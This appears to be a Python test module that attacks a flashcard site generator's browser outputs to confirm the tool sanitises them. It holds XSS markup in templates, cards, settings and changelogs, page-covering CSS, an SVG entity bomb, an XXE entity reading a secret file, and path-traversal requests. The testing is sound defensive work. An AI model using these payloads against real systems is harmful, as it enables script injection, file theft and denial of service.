"""Attacks by what a browser would show: the preview, the site, and a page of differences."""

from __future__ import annotations

from typing import Any

from security.arena import Arena
from security.attack import Family
from security.package_attacks import edit_column

SERVE = "serve --no-open --port 0"
WEB = Family("web", ("build", "diff --format html v1.0.0", "site", SERVE))
COVER = "position: fixed; inset: 0; z-index: 999999; background: red;"


def remote_markup(arena: Arena) -> str:
    """Markup that loads from elsewhere, leads on, or runs."""
    url = arena.url
    return (
        f'<meta http-equiv="refresh" content="0; url={url}"><base href="{url}">'
        f'<script>canary("{url}")</script><script src="{url}"></script>'
        f'<img src="{url}" onerror="canary()"><img srcset="{url} 2x"><iframe src="{url}"></iframe>'
        f'<link rel="stylesheet" href="{url}"><object data="{url}"></object><embed src="{url}">'
        f'<video src="{url}" poster="{url}" autoplay></video><audio src="{url}" autoplay></audio>'
        f'<svg onload="canary()"><image href="{url}"/><use href="{url}#a"/></svg>'
        f'<p style="background: url({url})">styled</p><style>@import "{url}";</style>'
        f'<form action="{url}"><button formaction="javascript:canary()">go</button></form>'
        f'<a href="javascript:canary()">a</a><a href="data:text/html,canary">b</a>'
        f'<math href="javascript:canary()">m</math><body onload="canary()">'
    )


def _style(arena: Arena) -> str:
    url = arena.url
    return (
        f'@import "{url}"; @import url({url}); @font-face {{font-family: a; src: url({url})}}\n'
        f".card, body, :root {{ {COVER} background: url({url}); cursor: url({url}), auto }}\n"
        f":host, :host(*), :host-context(*) {{ {COVER} }}\n"
        f"@namespace svg url({url}); a::after {{ content: url({url}) }}\n"
        f".x {{ background: \\75rl({url}); list-style: image-set('{url}' 1x) }}\n"
        "</style><script>canary()</script><style>\n"
    )


def note_type(arena: Arena, front: str, css: str = "") -> None:
    """Give the project a note type with this template and style, and a card of it."""
    arena.write("notetypes/evil/notetype.toml", 'fields = ["Front", "Back"]\n')
    arena.write("notetypes/evil/Card.front.html", f"{{{{Front}}}}\n{front}\n")
    arena.write("notetypes/evil/Card.back.html", f"{{{{FrontSide}}}}<hr>{{{{Back}}}}\n{front}\n")
    if css:
        arena.write("notetypes/evil/style.css", css)
    arena.add("cards.md", "\n## A question of its own? {kind=evil}\n\nYes.\n")


@WEB.attack("a template that leads on")
def _refresh(arena: Arena) -> None:
    """A template of a note type has `<meta http-equiv="refresh">`."""
    note_type(arena, f'<meta http-equiv="refresh" content="0; url={arena.url}">')


@WEB.attack("a template that runs and loads")
def _template(arena: Arena) -> None:
    """A template of a note type has scripts, frames, pictures and styles of another server."""
    note_type(arena, remote_markup(arena))


@WEB.attack("a style that loads and covers")
def _css(arena: Arena) -> None:
    """The style of a note type loads from elsewhere, covers the page, and ends its element."""
    note_type(arena, "", _style(arena))


@WEB.attack("cards of HTML", also=["diff --format markdown v1.0.0", "check"])
def _cards(arena: Arena) -> None:
    """Questions, answers and decks hold scripts, frames, pictures and styles of another server."""
    markup = remote_markup(arena)
    arena.write(
        "cards/html.md", f"# Deck {markup}\n\n## What {markup}?\n\n{markup}\n\n## A?\n\n{markup}\n"
    )


@WEB.attack("settings of HTML")
def _settings(arena: Arena) -> None:
    """Description, label, addresses and names in the settings hold scripts."""
    script = "<script>canary()</script><img src=x onerror=canary()>\\\"'"
    arena.add(
        "ankipress.toml",
        f'description = "{script}"\nsource_label = "{script}"\ndeck_prefix = "{script}"\n'
        f'source_url = "https://example.org/{{path}}?a=\'onclick=canary()"\n'
        f'report_url = "https://example.org/\'onclick=canary()"\nretired_text = "{script}"\n',
    )


@WEB.attack("a changelog of HTML", rows=["site", "release", "artifacts"])
def _changelog(arena: Arena) -> None:
    """The changelog holds scripts, frames, pictures and styles of another server."""
    markup = remote_markup(arena)
    arena.write(
        "CHANGELOG.md", f"# Changelog {markup}\n\n## 2.0.0 - 2026-11-30 {markup}\n\n{markup}\n"
    )


@WEB.attack("drawings that run")
def _drawing(arena: Arena) -> None:
    """A drawing of SVG holds scripts, pictures of another server, and an entity that doubles."""
    url = arena.url
    entities = "".join(
        f'<!ENTITY a{number} "&a{number - 1};&a{number - 1};">' for number in range(1, 40)
    )
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    arena.write(
        "media/run.svg",
        f'{svg} onload="canary()"><script>canary()</script><image xlink:href="{url}"/>'
        f'<style>@import "{url}";</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"'
        f' src="{url}"/></foreignObject><use href="{url}#a"/></svg>',
    )
    arena.write("media/bomb.svg", f"<!DOCTYPE svg [<!ENTITY a0 'a'>{entities}]>{svg}>&a39;</svg>")
    entity = f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file://{arena.outside}/secret.txt">]>'
    arena.write("media/read.svg", f"{entity}{svg}><text>&a;</text></svg>")
    pictures = " ".join(f"![a](media/{name}.svg)" for name in ("run", "bomb", "read"))
    arena.add("cards.md", f"\n## Drawings?\n\nThese: {pictures}\n")


@WEB.attack("a template of five thousand fields")
def _large(arena: Arena) -> None:
    """A template names its field five thousand times, and the field has 100 kB."""
    note_type(arena, "{{Back}}" * 5000)
    arena.add("cards.md", f"\n## A large one? {{kind=evil}}\n\n{'word ' * 20_000}\n")


@WEB.attack("a package with templates that run", rows=["diff --format html PACKAGE"])
def _package(arena: Arena) -> None:
    """The templates and styles of a package run, load from elsewhere, and cover the page."""

    def change(model: Any) -> None:
        model["css"] += _style(arena)
        for each in model["tmpls"]:
            each["qfmt"] += remote_markup(arena)
            each["afmt"] += remote_markup(arena)

    edit_column(arena, "models", change)


@WEB.attack(
    "requests that are malformed",
    rows=[SERVE],
    malformed=(
        ("/compare", b"{"),
        ("/compare", b"\xff\xfe"),
        ("/compare", b"[" * 100_000),
        ("/compare", b'{"key": ' + b"9" * 20_000 + b"}"),
        ("/compare", b'{"key": {}, "typed": []}'),
        ("/compare", b'"' + b"a" * 5_000_000 + b'"'),
        ("/open", b"[]"),
        ("/open", b'{"path": "\\ud800", "line": 1, "column": 1}'),
        ("/open", b'{"path": "../../outside/secret.txt", "line": 1, "column": 1}'),
        ("/open", b'{"path": "cards.md", "line": 1e999, "column": NaN}'),
        ("/open", b'{"path": "cards.md", "line": true, "column": -1}'),
        ("/cards?key=%00&key=%FF&key=../x", b""),
        ("/style/..%2f..%2fx", b""),
        ("/part/..%2f..%2fx", b""),
        ("/media/%00/%FF", b""),
    ),
)
def _requests(arena: Arena) -> None:
    """A browser is made to send JSON that is none, too deep, huge, or of other types."""
